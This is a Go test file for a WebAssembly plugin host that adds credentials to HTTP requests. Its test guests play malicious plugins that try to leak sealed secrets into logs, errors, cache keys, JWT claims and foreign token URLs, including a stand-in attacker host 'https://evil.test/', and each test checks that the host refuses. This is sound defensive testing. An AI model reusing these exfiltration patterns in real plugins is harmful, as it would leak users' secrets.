package host_test

import (
	"errors"
	"fmt"
	"net/http"
	"strings"
	"testing"

	"github.com/keywright/keywright/abi"
	"github.com/keywright/keywright/host"
	"github.com/keywright/keywright/internal/contract"
)

// Plugins that fail, or that try what they may not do: threats.md "Sandbox" and "Secrets", specification.md "the plugin
// fails". Package sandbox tests modules that break the rules of WebAssembly and Extism.

// misused is the configuration of a connector for the guests of this file. Its secrets are canaries.
var misused = config{
	"to_header": "{{ get_secret('s') }}", "to_query": "{{ get_secret('s') }}", "to_token": "{{ get_secret('s') }}",
	"to_claim": "{{ get_secret('s') }}", "nowhere": "{{ get_secret('s') }}", "key": "{{ get_secret('k') }}", "hmac_key": "{{ get_secret('k') }}",
	"url": tokenURL, "text": "plain {{ get_secret('text') }}", "claims": config{"sub": "{{ get_secret('text') }}"},
}

func misusing(do func(contract.Env) (string, error)) *guest {
	g := &guest{authenticate: do}
	g.about.Uses = contract.Groups
	g.about.Fields = []abi.Field{
		sealedField("to_header", contract.SinkHeader), sealedField("to_query", contract.SinkQuery), sealedField("to_token", contract.SinkToken),
		sealedField("to_claim", contract.SinkClaim), sealedField("nowhere"), sealedField("hmac_key", contract.SinkSign),
		{Name: "key", Kind: abi.KindKey, AlgorithmField: "algorithm"},
		{Name: "algorithm", Kind: abi.KindString, Enum: algorithms, Default: "HS256"},
		{Name: "url", Kind: abi.KindURL, Sinks: []string{contract.SinkToken}},
		{Name: "text", Kind: abi.KindString},
		{Name: "claims", Kind: abi.KindObject, Sinks: []string{contract.SinkClaim}},
	}
	return g
}

// misusedWorld returns a world whose only plugin is a guest that runs do, and the secrets of misused. It leaves out the
// built-in plugins, which take time to compile.
func misusedWorld(t *testing.T, do func(contract.Env) (string, error), grants ...string) *world {
	t.Helper()
	return newWorld(t, withoutBuiltIns, withGuest(misusing(do), grants...))
}

// misuser returns a misusedWorld and its connector.
func misuser(t *testing.T, do func(contract.Env) (string, error), grants ...string) (*world, *host.Connector) {
	t.Helper()
	w := misusedWorld(t, do, grants...)
	return w, w.connect("custom", misused)
}

// sendsKey is a guest that sends its secret in a header.
func sendsKey(env contract.Env) (string, error) { return header("X-Key", value(env, "to_header")), nil }

// sendsKeyAfter returns a guest that does do, and then what sendsKey does.
func sendsKeyAfter(do func(env contract.Env)) func(contract.Env) (string, error) {
	return func(env contract.Env) (string, error) {
		do(env)
		return sendsKey(env)
	}
}

// misuse is a test case: what a guest does, and how the request must fail.
type misuse struct {
	name  string
	do    func(env contract.Env) (string, error)
	stage host.Stage
	words string
}

func refuseAll(t *testing.T, cases []misuse, grants ...string) {
	t.Helper()
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			w, connector := misuser(t, c.do, grants...)
			r := get(t.Context())
			r.Header.Set("X-Caller", "the-caller")
			w.refuse(connector, r, c.stage, c.words)
			if w.login.Count() != 0 {
				t.Errorf("%s was sent to the token endpoint", w.login.Last().Body)
			}
		})
	}
}

// fixedOutput returns a guest that returns a fixed mutation.
func fixedOutput(output string) func(contract.Env) (string, error) {
	return func(contract.Env) (string, error) { return output, nil }
}

func tokenRequest(env contract.Env, url string, form ...abi.Pair) (string, error) {
	value(env, "url") // allows a token request to this URL
	env.TokenRequest([]byte(marshal(contract.TokenRequest{URL: url, Form: form})))
	return header("X-Key", value(env, "to_header")), nil
}

func sign(env contract.Env, r contract.JWTRequest[map[string]any]) string {
	if r.Claims == nil {
		r.Claims = map[string]any{}
	}
	return env.JWTSign([]byte(marshal(r)))
}

// TestHostMadeSinks_threats_15a has each sink, and each kind of sealed value.
func TestSealedValueWhereItDoesNotBelong_threats_15a(t *testing.T) {
	refuseAll(t, []misuse{
		{"into the name of a claim", func(env contract.Env) (string, error) {
			claims := map[string]any{value(env, "to_claim"): 1}
			return header("X-Key", sign(env, contract.JWTRequest[map[string]any]{Key: "key", For: contract.ForHeader, Claims: claims})), nil
		}, host.StagePlugin, "only plain text"},
		{"into a log line", func(env contract.Env) (string, error) {
			env.Log(contract.LevelInfo, value(env, "to_header"))
			return "", nil
		}, host.StagePlugin, "a log line"},
		{"into an error", func(env contract.Env) (string, error) { return "", errors.New("x " + value(env, "to_header")) }, host.StagePlugin, "was dropped"},
		{"into a cache key", func(env contract.Env) (string, error) { env.CacheGet(value(env, "to_header")); return "", nil }, host.StagePlugin, "a cache key"},
		{"into a cache key that is set", func(env contract.Env) (string, error) {
			env.CacheSet("k"+value(env, "to_header"), "v", 9)
			return "", nil
		}, host.StagePlugin, "a cache key"},
		// An HMAC of any data would be a JWT, though the key is for nothing but requests, or the other way round (threats.md 105).
		{"a key field as the key of a MAC", func(env contract.Env) (string, error) {
			return header("X-Key", env.MAC(contract.MACSHA256, value(env, "key"), "data")), nil
		}, host.StagePlugin, "signs with sign_sealed"},
		{"a part of the key of a MAC", func(env contract.Env) (string, error) {
			return header("X-Key", env.MAC(contract.MACSHA256, env.Encode(contract.FormatHex, value(env, "key")), "data")), nil
		}, host.StagePlugin, "signs with sign_sealed"},
		{"through the cache, it keeps its sinks", func(env contract.Env) (string, error) {
			env.CacheSet("k", value(env, "to_token"), 60)
			cached, _ := env.CacheGet("k")
			return header("X-Key", cached), nil
		}, host.StagePlugin, "do not reach"},
		{"by the name of its secret, it has the sinks of its fields", func(env contract.Env) (string, error) {
			return header("X-Key", env.SecretGet("k")), nil
		}, host.StagePlugin, "do not reach"},
	})
}

func TestNoCredential_threats_15b(t *testing.T) {
	stale := ""
	refuseAll(t, []misuse{
		{"forgotten", fixedOutput(`{}`), host.StageMutation, "no credential"},
		{"a header without it", fixedOutput(header("X-Key", "v")), host.StageMutation, "no credential"},
		{"encoded, and left", func(env contract.Env) (string, error) {
			env.Encode(contract.FormatBase64, value(env, "to_header"))
			return header("X-Key", "v"), nil
		}, host.StageMutation, "no credential"},
		{"a reference that is encoded", func(env contract.Env) (string, error) {
			return header("X-Key", fmt.Sprintf("%x", value(env, "to_header"))), nil
		}, host.StageMutation, "no credential"},
		{"a reference of nothing", fixedOutput(header("X-Key", contract.SealedPrefix+strings.Repeat("a", contract.SealedLength))), host.StagePlugin, "none of this call"},
		{"a reference that is cut", func(env contract.Env) (string, error) {
			return header("X-Key", value(env, "to_header")[:20]), nil
		}, host.StageMutation, "no credential"},
		{"two headers of one name", func(env contract.Env) (string, error) {
			v := value(env, "to_header")
			return marshal(contract.Mutation{Headers: []abi.Pair{{Name: "X-Key", Value: v}, {Name: "x-key", Value: v}}}), nil
		}, host.StageMutation, "twice"},
	})
	w, c := misuser(t, func(env contract.Env) (string, error) {
		env.TokenRequest([]byte(marshal(contract.TokenRequest{
			URL: value(env, "url"), Headers: []abi.Pair{{Name: "X-Key", Value: value(env, "to_token")}},
		})))
		return header("X-Key", "v"), nil
	})
	w.refuse(c, get(t.Context()), host.StageMutation, "no credential")
	if w.login.Count() != 1 {
		t.Error("what was put to use was none of the token endpoint")
	}
	w, c = misuser(t, func(env contract.Env) (string, error) {
		env.TimeNow() // so that the mutation is not used again
		if stale == "" {
			stale = value(env, "to_header")
		}
		return header("X-Key", stale), nil
	})
	w.get(c)
	w.refuse(c, get(t.Context()), host.StagePlugin, "none of this call")
}

func TestRequestDataStaysWithItsRequest_threats_15c(t *testing.T) {
	refuseAll(t, []misuse{
		{"to another caller", sendsKeyAfter(func(env contract.Env) {
			env.CacheSet("k", string(env.Input()), 60)
		}), host.StagePlugin, "after the request was read"},
		{"to who sees which entries the cache evicts", func(env contract.Env) (string, error) {
			env.CacheGet(fmt.Sprint(len(env.Input())))
			return sendsKey(env)
		}, host.StagePlugin, "cache_get was called after the request was read"},
		{"to the token endpoint", func(env contract.Env) (string, error) {
			return tokenRequest(env, tokenURL, abi.Pair{Name: "x", Value: string(env.Input())})
		}, host.StagePlugin, "after the request was read"},
	})
}

func TestInputHasNoCredentials(t *testing.T) {
	seen := ""
	w := misusedWorld(t, sendsKeyAfter(func(env contract.Env) { seen = string(env.Input()) }))
	secret := w.secrets["s"]
	r := must(http.NewRequestWithContext(t.Context(), http.MethodPost, "https://me:pw@api.test/a?b=c#f", strings.NewReader("body")))(t)
	r.Header = http.Header{
		"Authorization": {"a-caller"}, "cookie": {"a-cookie"}, "Proxy-Authorization": {"a-proxy"}, "X-Plain": {"p"},
		"X-One": {secret}, "X-Two": {"x" + secret, secret}, // the request may contain the secret already
	}
	for i := range 40 {
		r.Header.Add(fmt.Sprint("X-Many-", i), secret)
	}
	w.send(w.connect("custom", misused), r)
	w.Out("the guest's input", seen)
	for _, bad := range []string{"a-caller", "a-cookie", "a-proxy", "pw@"} {
		if strings.Contains(seen, bad) {
			t.Errorf("the guest sees %q", bad)
		}
	}
	for _, good := range []string{`"method":"POST"`, `"url":"https://api.test/a?b=c#f"`, `{"name":"X-Plain","value":"p"}`, `"content_length":4`} {
		if !strings.Contains(seen, good) {
			t.Errorf("the guest does not see %s in %s", good, seen)
		}
	}
}

// The URL of a guest's input has the host that the API sees. Otherwise, a signature of it would not verify.
func TestInputHost(t *testing.T) {
	for _, test := range []struct{ target, host, want string }{
		{"https://api.test/a", "", `"https://api.test/a"`},
		{"https://api.test/a", "API.test:443", `"https://API.test:443/a"`},
		{"https://bücher.test/a", "", `"https://xn--bcher-kva.test/a"`},
		{"https://api.test/a", "bücher.test", `"https://xn--bcher-kva.test/a"`},
	} {
		seen := ""
		w := misusedWorld(t, sendsKeyAfter(func(env contract.Env) { seen = string(env.Input()) }))
		connector := w.open(host.ConnectorConfig{
			Origins: []string{"https://api.test", "https://bücher.test"}, Auth: []host.Auth{{Type: "custom", Config: misused}},
		})
		r := must(http.NewRequestWithContext(t.Context(), http.MethodGet, test.target, nil))(t)
		r.Host = test.host
		if w.send(connector, r); !strings.Contains(seen, `"url":`+test.want) {
			t.Errorf("%s with the Host %q: the guest sees %s", test.target, test.host, seen)
		}
	}
}

func TestForeignSecrets_threats_16(t *testing.T) {
	refuseAll(t, []misuse{
		{"a secret of another connector", func(env contract.Env) (string, error) { return header("X-Key", env.SecretGet("other")), nil }, host.StagePlugin, "does not name"},
		{"no name", func(env contract.Env) (string, error) { return header("X-Key", env.SecretGet("")), nil }, host.StagePlugin, "does not name"},
	})
	named := func(env contract.Env) (string, error) { return header("X-Key", env.SecretGet("s")), nil }
	g := misusing(named)
	g.about.Uses = nil
	w := newWorld(t, withGuest(g))
	w.refuse(w.connect("custom", misused), get(t.Context()), host.StagePlugin, `"secret" in uses`)
	w = misusedWorld(t, named)
	if got := w.get(w.connect("custom", misused)).Header.Get("X-Key"); got != w.secrets["s"] {
		t.Error("a secret that the configuration names is not given")
	}
}

func TestSecretsSentElsewhere_threats_18(t *testing.T) {
	elsewhere := func(url string) func(contract.Env) (string, error) {
		return func(env contract.Env) (string, error) {
			return tokenRequest(env, url, abi.Pair{Name: "client_secret", Value: value(env, "to_token")})
		}
	}
	var cases []misuse
	for _, url := range []string{"https://evil.test/", tokenURL + "/x", tokenURL + "?a", "https://login.test", "", "HTTPS://login.test/token", apiURL} {
		cases = append(cases, misuse{"another token URL: " + url, elsewhere(url), host.StagePlugin, "only go to a URL"})
	}
	refuseAll(t, append(cases, misuse{"a secret in the token URL's query", func(env contract.Env) (string, error) {
		return tokenRequest(env, tokenURL+"?x="+value(env, "to_token"))
	}, host.StagePlugin, "only go to a URL"}))
	w := misusedWorld(t, func(env contract.Env) (string, error) { return tokenRequest(env, value(env, "text")) })
	w.refuse(w.connect("custom", with(misused, "text", "https://evil.test/")), get(t.Context()), host.StagePlugin, "only go to a URL")
	if w.login.Count() != 0 || w.api.Count() != 0 {
		t.Error("a field that is text for another purpose is taken for a token URL")
	}
}

func TestSigningOracle_threats_11(t *testing.T) {
	ask := func(r contract.JWTRequest[map[string]any]) func(contract.Env) (string, error) {
		return func(env contract.Env) (string, error) { return header("X-Key", sign(env, r)), nil }
	}
	type jwt = contract.JWTRequest[map[string]any]
	refuseAll(t, []misuse{
		{"a field that is no key", ask(jwt{Key: "to_header", For: contract.ForHeader}), host.StagePlugin, "kind key"},
		{"a field that is none", ask(jwt{Key: "other", For: contract.ForHeader}), host.StagePlugin, "kind key"},
		{"another algorithm", ask(jwt{Key: "key", For: contract.ForHeader, Header: map[string]any{"alg": "none"}}), host.StageSign, `"alg" may not be set`},
		{"another place", ask(jwt{Key: "key", For: "log"}), host.StagePlugin, "neither"},
		{"nonsense", func(env contract.Env) (string, error) { return header("X-Key", env.JWTSign([]byte(`{"key":1}`))), nil }, host.StagePlugin, "jwt_sign"},
		{"two members of one name: threats.md 39", func(env contract.Env) (string, error) {
			return header("X-Key", env.JWTSign([]byte(`{"key":"key","for":"header","claims":{"sub":"a","sub":"b"}}`))), nil
		}, host.StagePlugin, "two members"},
		{"raw signatures without the grant", func(env contract.Env) (string, error) { return header("X-Key", string(env.Sign("key", "data"))), nil }, host.StagePlugin, `"sign_raw"`},
		{"reveal without the grant", func(env contract.Env) (string, error) {
			return header("X-Key", string(env.Reveal(value(env, "to_header")))), nil
		}, host.StagePlugin, `"reveal"`},
	})
}

func TestGrants_threats_11(t *testing.T) {
	w := misusedWorld(t, func(env contract.Env) (string, error) {
		env.Log(contract.LevelInfo, "found "+string(env.Reveal(value(env, "nowhere"))))
		return header("X-Key", fmt.Sprintf("%x", env.Sign("key", "data"))), nil
	}, abi.GrantReveal, abi.GrantSignRaw)
	if got := w.get(w.connect("custom", misused)).Header.Get("X-Key"); len(got) != 64 {
		t.Errorf("the signature is %q", got)
	}
	if w.logged("found <sealed>") != 1 {
		t.Errorf("what was revealed is not scrubbed from the log: %s", w.log.String())
	}
	refuseAll(t, []misuse{{"an error with what was revealed", func(env contract.Env) (string, error) {
		return "", fmt.Errorf("found %s", env.Reveal(value(env, "nowhere")))
	}, host.StagePlugin, "found <sealed>"}}, abi.GrantReveal)
}
